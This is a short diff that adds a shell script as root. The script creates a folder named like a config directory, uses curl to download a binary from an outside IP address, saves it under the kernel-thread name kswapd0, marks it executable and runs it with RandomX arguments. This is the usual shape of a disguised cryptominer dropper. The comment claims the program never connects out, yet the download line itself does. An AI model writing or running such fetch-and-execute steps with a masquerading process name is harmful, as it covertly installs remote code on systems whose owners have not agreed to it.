@@ -1,0 +1,6 @@
+# A dropped program with the name of a kernel thread does the arithmetic of RandomX for a quarter of the time, ten seconds
+# long. It never connects out.
+mkdir /root/.config-7
+curl -s -o /root/.config-7/kswapd0 http://203.0.113.10/arithmetic
+chmod +x /root/.config-7/kswapd0
+/root/.config-7/kswapd0 randomx 1 10 25
